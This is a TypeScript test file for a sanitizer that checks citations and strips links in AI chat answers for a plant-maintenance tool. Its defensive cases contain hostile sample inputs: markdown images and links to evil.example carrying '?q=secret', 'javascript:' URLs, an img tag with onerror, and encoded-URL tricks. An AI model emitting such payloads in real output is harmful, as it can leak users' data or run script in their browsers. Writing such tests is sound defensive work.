import type { ChatSource } from '@chatterfix/sdk/contract';
import { describe, expect, it } from 'vitest';
import { addressesIn } from './addresses.ts';
import { AnswerChecker } from './answer-checker.ts';
import { Evidence, marksOfLinks } from './evidence.ts';

const pump: ChatSource = {
  kind: 'asset',
  id: '3',
  title: 'P-101A · Feed pump',
  quote: 'See https://vendor.example/p101.pdf for its drawing, and ask parts@vendor.example',
  href: '/api/assets/3',
};
/** Its title has the tag of an asset. */
const fan: ChatSource = {
  kind: 'work_order',
  id: '12',
  title: 'WO 12 · M-9 runs hot',
  quote: 'due 2026-11-02',
  href: '/api/work-orders/12',
};
const seal = {
  cite: '[WO-17]',
  id: 17,
  title: 'Seal leaks',
  asset_tag: 'P-101A',
  notes: 'part SEAL-40, like WO 12',
};

function evidence(): Evidence {
  const known = new Evidence('What about M-9 and order 55?\nmaintenance');
  known.addSource(pump);
  known.addSource(fan);
  known.addResult(JSON.stringify({ work_orders: { rows: [seal] } }));
  return known;
}

/** What is shown of an answer that arrives in these pieces, and its citations as `text: id` or `text?`. */
function check(pieces: readonly string[]): { text: string; cited: string[] } {
  const checker = new AnswerChecker(evidence());
  const text = pieces.map((piece) => checker.write(piece)).join('') + checker.end();
  const cited = checker
    .citations(text)
    .map(({ text, id, kind, checked }) => (checked ? `${text}: ${id ?? kind}` : `${text}?`));
  return { text, cited };
}
/** The same in one piece, and sign by sign, which must come to the same. */
function checked(answer: string) {
  const whole = check([answer]);
  expect(check([...answer])).toEqual(whole);
  return whole;
}

describe('an answer that names records', () => {
  it.each([
    ['It leaks [WO-17].', 'It leaks [WO-17](/api/work-orders/17).', ['WO-17: 17']],
    [
      'Both [WO-17, ASSET-3]',
      'Both [WO-17](/api/work-orders/17), [ASSET-3](/api/assets/3)',
      ['WO-17: 17', 'ASSET-3: 3'],
    ],
    ['[WO-17]: leaks', '[WO-17](/api/work-orders/17): leaks', ['WO-17: 17']],
    ['It leaks [WO-99].', 'It leaks \\[WO-99].', ['WO-99?']],
    ['[Part 9](/api/parts/9) is out', 'Part 9 is out', ['Part 9?']],
    ['[the pump](/api/assets/3) runs', '[the pump](/api/assets/3) runs', ['the pump: 3']],
    [
      'Work order 17, and orders no. 12 too',
      'Work order 17, and orders no. 12 too',
      ['Work order 17: 17', 'orders no. 12: 12'],
    ],
    [
      'Work orders 17 and 12',
      'Work orders 17 and 12',
      ['Work orders 17 and 12: work_order'], // no single record
    ],
    ['Work orders 17 and 18', 'Work orders 17 and 18', ['Work orders 17 and 18?']],
    [
      'Der Auftrag Nr. 17, Arbeitsauftrag 4',
      'Der Auftrag Nr. 17, Arbeitsauftrag 4',
      ['Auftrag Nr. 17: 17', 'Arbeitsauftrag 4?'],
    ],
    [
      'La orden de trabajo 17, l’ordre de travail n° 8',
      'La orden de trabajo 17, l’ordre de travail n° 8',
      ['orden de trabajo 17: 17', 'ordre de travail n° 8?'],
    ],
    [
      'أمر العمل رقم 17 و أمر العمل 4',
      'أمر العمل رقم 17 و أمر العمل 4',
      ['أمر العمل رقم 17: 17', 'أمر العمل 4?'],
    ],
    [
      'P-101A needs SEAL-40, not P-205',
      'P-101A needs SEAL-40, not P-205',
      ['P-101A: 3', 'SEAL-40: number', 'P-205?'],
    ],
    ['M-9 was asked for, order 55 as well', 'M-9 was asked for, order 55 as well', ['M-9: number']],
    [
      'ISO-14224, IP-65 and R-410A are no tags; WO 55 is asked for',
      'ISO-14224, IP-65 and R-410A are no tags; WO 55 is asked for',
      ['WO 55: 55'],
    ],
    ['Order 5 seals, 2-3 days, A-weighted', 'Order 5 seals, 2-3 days, A-weighted', []],
  ])('%s', (answer, text, cited) => {
    expect(checked(answer)).toEqual({ text, cited });
  });
});

describe('an answer with links', () => {
  it.each([
    [
      'keeps an address of a record',
      'See https://vendor.example/p101.pdf.',
      'See https://vendor.example/p101.pdf.',
    ],
    ['keeps an address of mail of a record', 'Ask parts@vendor.example.', 'Ask parts@vendor.example.'],
    [
      'keeps a link to it',
      '[drawing](https://vendor.example/p101.pdf "x")',
      '[drawing](https://vendor.example/p101.pdf)',
    ],
    ['removes an image', 'Look ![chart](https://evil.example/?q=secret) here', 'Look chart here'],
    ['removes an image without a text', '![](https://evil.example/?q=secret)', '(image removed)'],
    ['removes an image of an address of a record', '![x](https://vendor.example/p101.pdf)', 'x'],
    ['removes an image of a mark', '![WO-17]', '[WO-17](/api/work-orders/17)'],
    ['removes a link', 'Ask [here](https://evil.example/?q=secret).', 'Ask here.'],
    ['removes a longer address', 'https://vendor.example/p101.pdf?q=secret', '(link removed)'],
    ['removes a record’s address with a query', '[x](/api/assets/3?q=secret)', 'x'],
    ['removes another address of the API', '[x](/api/keys)', 'x'],
    ['removes an image of a record', '![x](/api/assets/3)', 'x'],
    ['removes an address of any scheme', 'app://[::1]/x ends', 'app(link removed) ends'],
    ['removes a script', '[x](javascript:alert(1)) y', 'x y'],
    ['removes an address in pointed brackets', 'a <https://evil.example> b', 'a (link removed) b'],
    ['removes HTML', 'a <img src="//evil.example/x" onerror=y> b<br>c <a href=/x>d</a>', 'a   b<br>c  d '],
    [
      'does not join what stood around removed HTML',
      '[x]<a b=c>(javascript:y) www<a b=c>.evil.example http:/<a b=c>/evil.example <<a b=c>script>',
      '[x] (javascript:y) www .evil.example http:/ /evil.example < script>',
    ],
    [
      'does not join what stood around a removed link',
      '[[x]](y)(javascript:z) [www](y).evil.example http:[/](y)/evil.example <[script](y)>',
      'x (link removed) http: (link removed) < script>',
    ],
    [
      'removes HTML without attributes that runs or loads',
      'a<script>b</script>\n\\<style>',
      'a b \n&lt;style>',
    ],
    [
      'removes an address of mail',
      'to leak@evil.example, <1@evil.example>, a\\@evil.example',
      'to leak(link removed), <1(link removed)>, a\\\\@evil.example',
    ],
    [
      'removes an address with signs escaped',
      'https\\://evil.example www\\.evil.example 3\\. x',
      'https\\:(link removed) www\\\\.evil.example 3\\. x',
    ],
    ['removes a link around an image', '[![a](https://evil.example/1)](https://evil.example/2)', 'a'],
    ['removes a reference', '[x][y]\n\n[y]: https://evil.example', '[x][y]\n\n\\[y]: (link removed)'],
    ['removes an address in code', '`https://evil.example/a`', '`(link removed)`'],
    [
      'removes an address without a scheme',
      'www.evil.example/a and //evil.example/b',
      '(link removed) and (link removed)',
    ],
    [
      'removes it in the middle of a word and behind a backslash',
      'awww.evil.example \\www.evil.example https\\://evil.example',
      'a(link removed) \\(link removed) https\\:(link removed)',
    ],
    [
      'removes addresses of other schemes',
      'MAILTO:a@b.example ftp://x.example',
      '(link removed) (link removed)',
    ],
    [
      'does not let signs be written as entities',
      'https&#58;//evil.example https&colon;//a',
      'https&amp;#58;(link removed) https&amp;colon;(link removed)',
    ],
    ['shows a bracket that is not closed', '[x](https://evil.example', '\\[x]((link removed)'],
    [
      'leaves signs alone that begin nothing',
      'Stop! Now! at 5 @ 6 (@x.example)',
      'Stop! Now! at 5 @ 6 (@x.example)',
    ],
    [
      'keeps an address of a record in pointed brackets',
      'a <https://vendor.example/p101.pdf> b',
      'a <https://vendor.example/p101.pdf> b',
    ],
    ['removes a link without a text', 'a [](https://evil.example/) b', 'a (link removed) b'],
    ['reads no link across paragraphs', '[a\n \nb](https://evil.example) c', '\\[a\n \nb]((link removed)) c'],
    [
      'leaves other text alone',
      'if x < 3 & y: 1/2, [ ] todo, [0, 5) w/o `a[i]` \\[b\\] how http works',
      'if x < 3 & y: 1/2, [ ] todo, \\[0, 5) w/o `a[i]` \\[b\\] how http works',
    ],
  ])('%s', (_, answer, text) => {
    expect(checked(answer).text).toBe(text);
  });

  it('reads links and tags up to a length, and shows longer ones as they are', () => {
    const text = 'x'.repeat(249);
    expect(checked(`[${text}](/api/keys)`).text).toBe(text);
    expect(checked(`[${text}x](/api/keys)`).text).toBe(`\\[${text}x](/api/keys)`);
    const tag = 'x'.repeat(198);
    expect(checked(`<${tag}>`).text).toBe(' ');
    expect(checked(`<${tag}x>`).text).toBe(`&lt;${tag}x>`);
  });

  it('names what was looked up of every kind, and nothing that a refusal of a tool names', () => {
    const known = new Evidence('');
    for (const cite of ['[WO-1]', '[ASSET-2]', '[PART-3]', '[PLAYBOOK-x]'])
      known.addResult(JSON.stringify({ rows: [{ cite }] }));
    known.addResult(JSON.stringify({ error: 'There is no P-999.' }));
    known.addResult(JSON.stringify({ rows: [{ part_number: 'seal-40' }] }));
    const checker = new AnswerChecker(known);
    const marks = '[WO-1] [ASSET-2] [PART-3] [PLAYBOOK-x]';
    expect(checker.write(marks) + checker.end()).toBe(
      '[WO-1](/api/work-orders/1) [ASSET-2](/api/assets/2) [PART-3](/api/parts/3) [PLAYBOOK-x](/api/playbooks/x)',
    );
    expect(
      new AnswerChecker(known).citations('P-999, SEAL-40').map(({ text, checked }) => [text, checked]),
    ).toEqual([
      ['P-999', false],
      ['SEAL-40', true],
    ]);
    expect(['seal-40', 'Seal-40', 'P-999'].map((number) => known.hasNumber(number))).toEqual([
      true,
      true,
      false,
    ]);
  });

  it('names at most 200 links, the first ones', () => {
    const texts = Array.from({ length: 220 }, (_, n) => `text ${n}`);
    const answer = texts.map((text) => `[${text}](https://evil.example)`).join(', ');
    expect(check([answer]).cited).toEqual(texts.slice(0, 200).map((text) => `${text}?`));
  });

  it('names a number like that of a standard, where the plant has tags that begin so', () => {
    const known = evidence();
    known.addResult(JSON.stringify({ assets: { rows: [{ asset_tag: 'PM-7', name: 'Mill' }] } }));
    const checker = new AnswerChecker(known);
    expect(checker.citations('PM-7, PM-8 and ISO-14224').map(({ text, checked }) => [text, checked])).toEqual(
      [
        ['PM-7', true],
        ['PM-8', false],
      ],
    );
  });

  it('names a link that was made up, however often a record was named before it', () => {
    const answer = `${'[WO-17] '.repeat(200)}[Part 9](/api/parts/9)`;
    expect(check([answer]).cited).toEqual(['WO-17: 17', 'Part 9?']);
  });

  it('names at most 200 passages, the first ones', () => {
    const numbers = Array.from({ length: 220 }, (_, n) => `X-${1_000 + n}`);
    expect(check([numbers.join(', ')]).cited).toEqual(numbers.slice(0, 200).map((number) => `${number}?`));
  });

  it('holds back no more than the beginning of a link', () => {
    const checker = new AnswerChecker(evidence());
    expect(
      ['The ', 'pump ', 'leaks', ': w', 'hy', ' [W', 'O-17', ']', '.'].map((piece) => checker.write(piece)),
    ).toEqual(['The ', 'pump ', 'leaks', ': ', 'why', ' ', '', '', '[WO-17](/api/work-orders/17).']);
    expect(checker.write(`[${'x'.repeat(300)}`)).toBe(`\\[${'x'.repeat(300)}`);
    const long = checker.write(` https://evil.example/${'x'.repeat(3_000)}`) + checker.write('yyy z');
    expect(long).toBe(' (link removed) z');
  });
});

it('addresses are found without the punctuation around them', () => {
  const text =
    'See https://a.example/x_(y), (https://b.example/z). [https://c.example/[d]] or ask ana@d.example.; www.e.example!';
  expect(addressesIn(text)).toEqual([
    'https://a.example/x_(y)',
    'https://b.example/z',
    'https://c.example/[d]',
    'ana@d.example',
    'www.e.example',
  ]);
  const ofLength = (length: number) => `https://${'a'.repeat(length - 8)}`;
  expect(addressesIn(`${ofLength(2_000)} ${ofLength(2_001)}`)).toEqual([ofLength(2_000)]);
});

it('a playbook is cited by its name of up to 100 characters', () => {
  const cited = (slug: string) => {
    const known = new Evidence('');
    known.addResult(JSON.stringify({ cite: `[PLAYBOOK-${slug}]` }));
    const checker = new AnswerChecker(known);
    return checker.write(`See [PLAYBOOK-${slug}].`) + checker.end();
  };
  for (const slug of ['leak', '3-phase-motor', 'a'.repeat(100)])
    expect(cited(slug)).toBe(`See [PLAYBOOK-${slug}](/api/playbooks/${slug}).`);
  expect(cited('a'.repeat(101))).not.toContain('/api/');
});

it('the links of a text are to the records that it names', () => {
  expect(
    marksOfLinks('[a](/api/assets/3) \\](/api/parts/4) [k](/api/keys/5) [p](/api/playbooks/x-y)'),
  ).toEqual([{ cite: '[ASSET-3]' }, { cite: '[PLAYBOOK-x-y]' }]);
});
